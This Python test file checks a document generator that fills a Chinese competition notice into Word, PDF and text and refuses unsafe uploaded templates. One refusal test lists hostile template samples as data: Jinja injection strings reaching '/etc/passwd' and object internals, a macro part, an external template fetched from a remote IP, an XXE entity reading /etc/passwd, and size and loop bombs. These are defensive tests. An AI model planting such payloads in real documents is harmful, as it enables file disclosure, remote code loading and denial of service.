"""Papers: one description gives Word, PDF and text; foreign templates get values and no more."""

import io
import zipfile

import pytest
from docx import Document
from docx.shared import Length

from contest.foundation.office.documents import (
    LARGEST_TEMPLATE,
    Box,
    Column,
    Data,
    DocumentRefused,
    Form,
    PageBreak,
    Paper,
    Picture,
    Table,
    Text,
    document_docx,
    document_pdf,
    document_text,
    word_template,
)
from contest.foundation.qr import qr_png
from tests.paper import sizes_of, text_of

PAPER = Paper(
    title="{{ event }}通知",
    blocks=(
        Picture("code", 25),
        Text("关于举办{{ event }}的通知", "title"),
        Text("各区总工会：", "addressee"),
        Text("一、参赛对象", "heading"),
        Text("定于{{ day }}举办{{ event }}。"),
        Table((Column("序号", "place", 1, is_number=True), Column("姓名", "name", 3)), "people"),
        Form(((("单位", "{{ unit }}"), ("电话", "")), (("项目", "{{ event }}"),))),
        Box("单位意见（盖章）", 40),
        PageBreak(),
        Text("苏州市总工会\n{{ day }}", "signature"),
    ),
)
PEOPLE: list[dict[str, str | int]] = [
    {"place": 1, "name": "欧阳建国"},
    {"place": 2, "name": "𠮷田{{ 7 }}"},
]
DATA: Data = {
    "event": "姑苏杯<数控车>工",
    "day": "2026年9月20日",
    "unit": "亨通集团 & 有限公司",
    "people": PEOPLE,
}
QR = {"code": qr_png("https://example.test/x", scale=8)}


def words(docx: bytes) -> str:
    document = Document(io.BytesIO(docx))
    cells = [c.text for table in document.tables for row in table.rows for c in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


def with_text(text: str) -> bytes:
    return word_template(Paper(title="x", blocks=(Text(text),)))


def with_part(name: str, content: bytes) -> bytes:
    """Return a good template with one more part, or one part in another form."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(with_text("x"))) as old, zipfile.ZipFile(made, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return made.getvalue()


def test_word_is_filled_with_every_value_as_it_stands():
    filled = document_docx(PAPER, DATA, pictures=QR)

    told = words(filled)
    for text in (
        "关于举办姑苏杯<数控车>工的通知",
        "亨通集团 & 有限公司",
        "欧阳建国",
        "𠮷田{{ 7 }}",
    ):
        assert text in told
    assert "{%" not in told
    assert "row." not in told
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        assert any(name.startswith("word/media/") for name in archive.namelist())


def mm(*lengths: Length | None) -> list[int]:
    return [round(length.mm) for length in lengths if length]


def test_word_has_the_page_of_official_documents():
    page = Document(io.BytesIO(word_template(PAPER))).sections[0]

    edges = mm(page.top_margin, page.right_margin, page.bottom_margin, page.left_margin)
    assert edges == [37, 26, 35, 28]
    assert mm(page.page_width, page.page_height) == [210, 297]


def test_a_template_altered_by_its_organiser_is_filled():
    document = Document(io.BytesIO(word_template(PAPER)))
    document.add_paragraph("另请于{{ day }}前回复。")
    altered = io.BytesIO()
    document.save(altered)

    told = words(document_docx(PAPER, DATA, template=altered.getvalue(), pictures=QR))

    assert "另请于2026年9月20日前回复。" in told


def test_pdf_and_text_say_the_same_as_word(tmp_path):
    pdf = document_pdf(PAPER, DATA, pictures=QR)

    assert sizes_of(pdf) == [(210.0, 297.0)] * 2
    for text in ("姑苏杯<数控车>工", "亨通集团 & 有限公司", "欧阳建国", "𠮷田{{ 7 }}", "单位意见"):
        assert text in text_of(pdf)
    told = document_text(PAPER, DATA)
    assert "定于2026年9月20日举办姑苏杯<数控车>工。" in told
    assert "1  欧阳建国" in told


def test_a_landscape_paper_lies_across_in_word_and_in_print():
    paper = Paper(title="x", blocks=(Text("x"),), is_landscape=True)

    page = Document(io.BytesIO(word_template(paper))).sections[0]
    assert mm(page.page_width, page.page_height) == [297, 210]
    assert sizes_of(document_pdf(paper, {})) == [(297.0, 210.0)]


@pytest.mark.parametrize(
    ("template", "named"),
    [
        (b"not a document", "not a Word document"),
        (b"PK\x03\x04broken", "not a Word document"),
        (with_text("{{ salary }}"), "does not know: 'salary' is undefined"),
        (with_text("{{ event.__class__ }}"), "asks for more than a value"),
        (with_text("{{ event.title() }}"), "asks for more than a value"),
        (with_text("{{ 'x' * 9999999999 }}"), "asks for more than a value"),
        (with_text("{{ event | attr('upper') }}"), "not written as"),
        (with_text("{{ event"), "not written as"),
        (with_text("{% include '/etc/passwd' %}"), "not written as"),
        (with_part("word/vbaProject.bin", b"x"), "macro"),
        (
            with_part(
                "word/_rels/settings.xml.rels",
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" '
                b'Target="http://198.51.100.1/x.dotm" TargetMode="External"/></Relationships>',
            ),
            "fetches something",
        ),
        (
            with_part(
                "word/_rels/settings.xml.rels",
                b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            ),
            "not a Word document",
        ),
        (with_part("word/big.bin", bytes(80 * 1024 * 1024)), "too large"),
        (bytes(LARGEST_TEMPLATE + 1), "too large"),
    ],
)
def test_a_template_that_cannot_be_filled_is_refused_with_the_reason(template, named):
    with pytest.raises(DocumentRefused) as refused:
        document_docx(PAPER, DATA, template=template, pictures=QR)

    told = str(refused.value)
    assert named in told


def test_a_template_that_never_ends_is_stopped():
    template = with_text("{% for a in people %}" * 40 + "{{ a.name }}" + "{% endfor %}" * 40)

    with pytest.raises(DocumentRefused):
        document_docx(PAPER, {**DATA, "people": PEOPLE * 40}, template=template)


def test_a_field_that_the_data_lack_is_a_fault_of_ours():
    with pytest.raises(KeyError):
        document_text(PAPER, {"event": "x"})
